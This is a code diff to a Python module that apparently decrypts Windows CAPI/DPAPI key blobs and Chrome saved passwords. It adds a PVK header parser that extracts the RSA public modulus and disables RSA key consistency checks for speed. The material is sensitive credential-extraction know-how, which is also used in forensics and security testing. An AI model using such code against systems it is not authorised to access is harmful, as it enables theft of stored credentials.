@@ -1,4 +1,5 @@
 from binascii import hexlify
+import struct
 from hashlib import pbkdf2_hmac
 from Cryptodome.Cipher import AES
 from Cryptodome.Hash import HMAC, SHA1, MD4
@@ -228,9 +229,27 @@ def pvkblob_to_pkcs1(key):
     pubExp = int(key['pubexp']) # e
     # RSA.Integer(prime2).inverse(prime1) # u
 
-    r = RSA.construct((modulus, pubExp, privateExp, prime1, prime2))
+    # the blob was authenticated when decrypted, checking the key again (primality tests) is slow
+    r = RSA.construct((modulus, pubExp, privateExp, prime1, prime2), consistency_check=False)
     return r
 
+def pvk_public_modulus(privatekey_bytes: bytes) -> "int | None":
+    ''' Returns the modulus of the public key stored in clear in a CAPI private key file, if any
+
+    Only the header is parsed (see PVKHeader): the public key follows the description, of SigHeadLen
+    bytes for a signature key (PVKFile_SIG), else of HeaderLen bytes (ExPublicKeyLen of PVKFile).
+    '''
+    if len(privatekey_bytes) < 40:
+        return None
+    _, _, descr_len, sig_head_len, _, head_len = struct.unpack_from('<LLLLLL', privatekey_bytes)
+    offset = 40 + descr_len + 20
+    public_key = privatekey_bytes[offset:offset + (sig_head_len if sig_head_len > 0 else head_len)]
+    # RSA1 PUBLICKEYBLOB: magic, len1, bitlen, unk, pubexp, modulus (len1 bytes, little endian)
+    if len(public_key) < 20 or public_key[:4] != b'RSA1':
+        return None
+    length = int.from_bytes(public_key[4:8], 'little')
+    return bytes_to_long(public_key[20:20 + length][::-1])
+
 def decrypt_chrome_password(encrypted_password: str, aeskey: bytes):
     version, rest = encrypted_password[:3], encrypted_password[3:]
     if version in (b'v10', b'v11'):